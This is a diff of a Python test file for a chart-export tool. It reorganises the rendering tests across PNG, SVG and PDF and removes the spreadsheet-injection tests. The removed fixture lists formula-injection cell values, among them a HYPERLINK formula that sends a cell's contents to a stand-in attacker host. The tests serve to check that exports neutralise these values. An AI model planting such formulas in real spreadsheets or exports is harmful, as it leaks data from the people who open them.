@@ -1,9 +1,9 @@
-"""Exports as a report-writer gets them: every chart id in every format, text inside the image, inert spreadsheets.
+"""Exports as a report-writer gets them: every chart id as data files and as an image, text inside the image.
 
 One warm chromium serves the whole session (render.RENDERER); images are rendered at scale 1 except the
-print-size test, and exports' image cache lets the report tests reuse them.
+print-size test, and exports' image cache lets the report tests reuse them. Each chart id is rendered in one of
+PNG, SVG and PDF, the formats taken in turn (tests/sweep.py); benchmarks/sweeps.py renders every id in every format.
 """
-import csv
 import io
 import json
 import re
@@ -12,17 +12,22 @@ from xml.etree import ElementTree
 
 import openpyxl
 import pandas as pd
-import plotly.graph_objects as go
 import pytest
 from PIL import Image
 
-from shegong import catalog, i18n
-from shegong import outputs
-from shegong.outputs import datafiles, render
+from shegong import catalog, i18n, outputs
 from shegong.__main__ import main as cli
 from shegong.charts import base
+from shegong.outputs import datafiles, render
+from tests.sweep import spread
+from tests.unit.test_inert_cells import hostile_exhibit
 
 IDS = catalog.ids()
+IMAGES = spread(IDS, ("png", "svg", "pdf"))  # (chart id, format): each id once, each format on a third of them
+
+
+def rendered_as(fmt: str) -> list[str]:
+    return [chart_id for chart_id, f in IMAGES if f == fmt]
 
 
 def first_exhibit(chart_id: str):
@@ -64,7 +69,7 @@ def test_the_catalog_has_charts_and_tables(exhibits):
     assert any(e.figure is None for e in exhibits.values() if e is not None)
 
 
-@pytest.mark.parametrize("ex", IDS, indirect=True)
+@pytest.mark.parametrize("ex", rendered_as("png"), indirect=True)
 def test_png_has_the_size_asked_and_is_not_blank(ex):
     png = outputs.export(ex, "png", scale=1)
     img = Image.open(io.BytesIO(png))
@@ -74,7 +79,7 @@ def test_png_has_the_size_asked_and_is_not_blank(ex):
     assert colours is None or len(colours) > 50, "the image is (nearly) one colour"
 
 
-@pytest.mark.parametrize("ex", IDS, indirect=True)
+@pytest.mark.parametrize("ex", rendered_as("svg"), indirect=True)
 def test_svg_has_title_sources_and_notes_inside_the_image(ex):
     text = svg_text(outputs.export(ex, "svg", scale=1))
     assert squash(ex.title) and squash(ex.title) in text
@@ -88,7 +93,7 @@ def test_svg_has_title_sources_and_notes_inside_the_image(ex):
         assert "演示数据" in text
 
 
-@pytest.mark.parametrize("ex", IDS, indirect=True)
+@pytest.mark.parametrize("ex", rendered_as("pdf"), indirect=True)
 def test_pdf_is_one_page_with_the_chinese_font_embedded(ex):
     pdf = outputs.export(ex, "pdf", scale=1)
     assert pdf.startswith(b"%PDF-")
@@ -139,36 +144,6 @@ def test_readme_explains_raw_columns_and_qualifiers(exhibits):
     assert "数据日期：" in readme
 
 
-def hostile_exhibit() -> catalog.Exhibit:
-    df = pd.DataFrame({
-        "名称": ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A2)", "\t=1+1",
-               "\r=2", "正常文本"],
-        "数值": [-5, 1.5, 0, -1, 2, 3, 4],
-    })
-    return catalog.Exhibit("test.hostile", {}, None, df, df, title="测试：注入", sources=["测试来源（2024年）"])
-
-
-def test_csv_makes_formula_cells_inert_and_keeps_numbers():
-    rows = list(csv.reader(io.StringIO(outputs.export(hostile_exhibit(), "csv").decode("utf-8-sig"))))
-    names = [r[0] for r in rows[1:]]
-    assert names[:6] == ["'" + v for v in hostile_exhibit().displayed["名称"][:6]]
-    assert names[6] == "正常文本"
-    assert [r[1] for r in rows[1:]] == ["-5", "1.5", "0", "-1", "2", "3", "4"]  # negative numbers stay numbers
-
-
-def test_xlsx_stores_formula_like_text_as_text():
-    ex = hostile_exhibit()
-    for full in (False, True):
-        ws = openpyxl.load_workbook(io.BytesIO(datafiles.to_xlsx(ex, full))).worksheets[0]
-        for row, value in enumerate(ex.displayed["名称"], 2):
-            cell = ws.cell(row, 1)
-            assert cell.data_type == "s" and cell.value == value, (row, cell.data_type, cell.value)
-            assert cell.quotePrefix == value.startswith(("=", "+", "-", "@", "\t", "\r"))
-        assert ws.cell(2, 2).value == -5 and ws.cell(2, 2).data_type == "n"
-    raw = zipfile.ZipFile(io.BytesIO(datafiles.to_xlsx(ex))).read("xl/worksheets/sheet1.xml").decode()
-    assert "<f>" not in raw, "a cell was written as a formula"
-
-
 def test_table_only_exhibit_becomes_an_image_with_its_footer():
     svg = outputs.export(hostile_exhibit(), "svg", scale=1)
     text = svg_text(svg)
@@ -199,23 +174,6 @@ def test_maps_are_rendered_without_network(exhibits):
         render.RENDERER.render(spec, {"format": "png", "width": 400, "height": 300, "scale": 1}, topojson=None)
     assert render.RENDERER.render(spec, {"format": "png", "width": 400, "height": 300, "scale": 1}).startswith(
         b"\x89PNG")
-
-
-def test_a_boundary_from_elsewhere_is_refused():
-    fig = go.Figure(go.Choropleth(geojson="https://example.com/world.geojson", locations=["a"], z=[1]))
-    with pytest.raises(render.ExportError, match="example.com"):
-        render.prepare(fig)
-
-
-def test_busy_renderer_says_so(monkeypatch):
-    monkeypatch.setenv("SHEGONG_EXPORT_WAIT", "0.05")
-    held = [render.RENDERER._slots.acquire() for _ in range(render.RENDERER.concurrency)]
-    try:
-        with pytest.raises(render.ExportBusy, match="繁忙"):
-            render.RENDERER.render({"data": [], "layout": {}}, {"format": "png"})
-    finally:
-        for _ in held:
-            render.RENDERER._slots.release()
 
 
 def test_one_browser_serves_the_session():
